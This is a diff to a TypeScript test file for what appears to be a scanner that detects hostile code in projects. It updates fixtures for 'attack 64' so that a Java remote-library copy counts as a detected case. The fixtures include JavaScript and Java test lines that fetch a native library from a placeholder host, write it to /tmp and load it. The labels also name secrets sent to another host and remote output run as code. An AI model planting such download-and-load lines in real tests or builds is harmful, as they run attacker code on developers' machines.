@@ -96,7 +96,7 @@ const LOADED_DOWNLOADS: FindingRow[] = [
 /** The same in JavaScript and Java: a native library written from a fetch, then loaded. */
 const LOADED_NATIVE_DOWNLOADS: FindingRow[] = [
   ['test/boot.test.js', `fs.writeFileSync('/tmp/boot.node', Buffer.from(await (await fetch('${BOOT}.node')).arrayBuffer()));\nprocess.dlopen(module, '/tmp/boot.node');`],
-  // Open: Java's `Files.copy(stream, path)` is not read as a download to a file (the approval is the control).
+  // Java's `Files.copy(stream, path)`, read as a download to a file since session 65 (JAVA_STREAM_COPY).
   ['src/test/java/BootTest.java', `Files.copy(new URL("${BOOT}.so").openStream(), Paths.get("/tmp/boot.so"));\nSystem.load("/tmp/boot.so");`],
 ];
 
@@ -136,7 +136,7 @@ const BUILD_HOOK_FILES: FindingRow[] = [['hatch_build.py', 'from hatchling.build
 describeFindings('attack 64', [
   ['a build hook file by a name the allow-list did not know', closedRows(BUILD_HOOK_FILES)],
   ['a download loaded by a loader that takes a path', closedRows(LOADED_DOWNLOADS)],
-  ['a native library written from a fetch, then loaded', [...closedRows(LOADED_NATIVE_DOWNLOADS.slice(0, 1)), ...LOADED_NATIVE_DOWNLOADS.slice(1)]],
+  ['a native library written from a fetch, then loaded', closedRows(LOADED_NATIVE_DOWNLOADS)],
   ["another host's output (a DNS record, ssh) run as code", closedRows(HOST_OUTPUT_RUN)],
   ["the job's environment sent to another host", SECRETS_SENT],
 ]);
